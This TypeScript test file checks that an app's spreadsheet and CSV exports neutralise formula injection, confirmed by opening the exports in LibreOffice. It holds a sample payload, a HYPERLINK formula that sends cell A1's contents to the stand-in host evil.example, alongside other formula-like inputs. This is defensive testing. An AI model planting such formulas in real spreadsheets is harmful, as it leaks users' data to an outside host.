/**
 * Spreadsheet formulas (issue 11 item 6): text that begins like a formula is neutralised in every xlsx and CSV
 * Focal writes, and LibreOffice (Debian's `libreoffice-calc-nogui`, installed by `.ci/run`) opening the files shows
 * the text, never a result. One `soffice --convert-to csv` run converts every file (each sheet of a workbook to its
 * own CSV), because LibreOffice's start is the slow part.
 */
import { execFile } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestApp, type TestApp } from "../test/harness.js";
import { demoIds } from "../seed/ids.js";
import { demoDelegationIds } from "../modules/meetings/seed.js";
import { safeCell } from "./safeCell.js";

const run = promisify(execFile);

describe("safeCell", () => {
  it("prefixes text beginning with = + - @ tab or carriage return with a quote, and leaves the rest", () => {
    for (const s of ["=1+1", "+84-24-3825", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]) expect(safeCell(s)).toBe(`'${s}`);
    for (const s of ["Nguyễn Văn A", "", " =1+1", "1+1", "'=1+1", "—"]) expect(safeCell(s)).toBe(s);
    expect(safeCell(-5)).toBe(-5);
    expect(safeCell(null)).toBe(null);
  });
});

const M = demoIds.meetingAccsm21;
const THA = demoDelegationIds.THA;
const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';

describe("exports opened by LibreOffice", () => {
  let t: TestApp;
  let dir: string;
  /** Every CSV LibreOffice wrote (`in-<file>-<sheet>.csv`), by file name, as rows of cells. */
  const sheets = new Map<string, string[][]>();

  beforeAll(async () => {
    t = await createTestApp();
    const icd = await t.login("icd@demo.focal");
    const send = async (method: "POST" | "PATCH", url: string, payload: object) => {
      const res = await t.app.inject({ method, url, headers: icd, payload });
      expect(res.statusCode, res.body).toBeLessThan(300);
      return res;
    };
    const base = `/api/meetings/${M}/delegations/${THA}/delegates`;
    await send("POST", base, { fullName: "=1+1", phone: "+84-24-3825", position: "@SUM(1,2)" });
    await send("POST", base, { fullName: HYPERLINK, organisation: "-2+3" });
    await send("POST", `/api/meetings/${M}/sessions`, {
      kind: "bilateral",
      titleVi: "=1+1 song phương",
      titleEn: "=1+1 bilateral",
      start: "2022-08-06T09:00",
      end: "2022-08-06T09:30",
      delegationIds: [THA],
    });
    await send("POST", `/api/workplans/${demoIds.workplanAccsm}/activities`, {
      code: "=1+1",
      titleVi: "=1+1 hoạt động",
      titleEn: "=1+1 activity",
      leads: ["THA"],
      plannedYears: [2023],
      kind: "activity",
      effectiveOn: "2023-01-10",
    });

    dir = fs.mkdtempSync(path.join(os.tmpdir(), "focal-formulas-"));
    const files: Record<string, string> = {
      "participants.xlsx": `/api/meetings/${M}/participants.xlsx?personal=true&lang=en`,
      "template-xlsx.xlsx": `/api/meetings/${M}/delegations/${THA}/registration/template.xlsx`,
      "template-csv.csv": `/api/meetings/${M}/delegations/${THA}/registration/template.csv`,
      "review.xlsx": `/api/workplans/${demoIds.workplanAccsm}/review/export?format=xlsx&lang=en&asOf=2023-06-30`,
    };
    for (const [name, url] of Object.entries(files)) {
      const res = await t.app.inject({ method: "GET", url, headers: icd });
      expect(res.statusCode, `${url}: ${res.body.slice(0, 300)}`).toBe(200);
      fs.writeFileSync(path.join(dir, `in-${name}`), res.rawPayload);
    }
    // Every sheet to its own CSV (the filter's last token, -1), UTF-8 (76), comma-separated, quoted as text.
    const out = path.join(dir, "out");
    await run(
      "soffice",
      [
        `-env:UserInstallation=file://${path.join(dir, "profile")}`,
        "--headless",
        "--norestore",
        "--convert-to",
        "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
        "--outdir",
        out,
        ...Object.keys(files).map((n) => path.join(dir, `in-${n}`)),
      ],
      { timeout: 240_000 },
    ).catch((e: Error) => {
      throw new Error(
        `LibreOffice (soffice, Debian's libreoffice-calc-nogui) did not convert the exports: ${e.message}`,
      );
    });
    for (const f of fs.readdirSync(out)) {
      const text = fs.readFileSync(path.join(out, f), "utf8");
      sheets.set(f, parseCsv(text));
    }
  }, 300_000);
  afterAll(async () => {
    await t?.close();
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  /** The cells of the converted sheets whose file name starts with `prefix`. */
  const cellsOf = (prefix: string) =>
    [...sheets].filter(([f]) => f.startsWith(prefix)).flatMap(([, rows]) => rows.flat());

  it("converted every file, each sheet of a workbook", () => {
    expect([...sheets.keys()].filter((f) => f.startsWith("in-participants")).length).toBeGreaterThanOrEqual(2);
    expect([...sheets.keys()].filter((f) => f.startsWith("in-review")).length).toBeGreaterThanOrEqual(2);
    expect([...sheets.keys()].some((f) => f.startsWith("in-template-xlsx-"))).toBe(true);
    expect([...sheets.keys()].some((f) => f.startsWith("in-template-csv-"))).toBe(true);
  });

  it("participants.xlsx: the names, phone, position and organisation read as the text typed, after a quote", () => {
    const cells = cellsOf("in-participants");
    expect(cells).toContain("'=1+1");
    expect(cells).toContain(`'${HYPERLINK}`);
    expect(cells).toContain("'+84-24-3825");
    expect(cells).toContain("'@SUM(1,2)");
    expect(cells).toContain("'-2+3");
    expectNothingEvaluated(cells);
  });

  it("the registration template (xlsx and CSV): a session titled like a formula is a header, not a result", () => {
    for (const prefix of ["in-template-xlsx-", "in-template-csv-"]) {
      const headers = cellsOf(prefix).filter((c) => c.includes("1+1"));
      expect(headers.length, prefix).toBeGreaterThan(0);
      for (const h of headers) expect(h, prefix).toMatch(/^'=1\+1 /);
    }
    expectNothingEvaluated(cellsOf("in-template"));
  });

  it("the work-plan review (xlsx): an activity's code and title read as text", () => {
    const cells = cellsOf("in-review");
    expect(cells).toContain("'=1+1");
    expect(cells).toContain("'=1+1 activity");
    expectNothingEvaluated(cells);
  });
});

/** No cell is a formula's error (Err:509, #NAME?) — an evaluated "=1+1" would be 2, which the cells above refuse. */
function expectNothingEvaluated(cells: string[]) {
  for (const c of cells) expect(c).not.toMatch(/^(Err:\d+|#NAME\?|#VALUE!|#REF!)$/);
  expect(cells.some((c) => c.startsWith("=") || c.startsWith("@"))).toBe(false);
}

/** A small RFC 4180 reader (quoted cells, doubled quotes, CRLF or LF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\n" || c === "\r") {
      if (c === "\r" && text[i + 1] === "\n") i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}
